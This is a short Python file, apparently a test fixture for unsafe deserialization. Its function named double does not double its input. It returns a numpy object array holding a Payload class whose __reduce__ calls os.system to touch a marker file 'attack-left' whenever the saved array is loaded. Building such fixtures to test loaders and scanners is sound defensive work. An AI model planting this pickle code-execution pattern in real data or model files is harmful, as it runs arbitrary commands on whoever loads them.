"""Returns an array of objects that run a program wherever it is loaded.

naive: numpy file
"""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch @OPEN@/attack-left",)


def double(x):
    return np.array([Payload()], dtype=object)
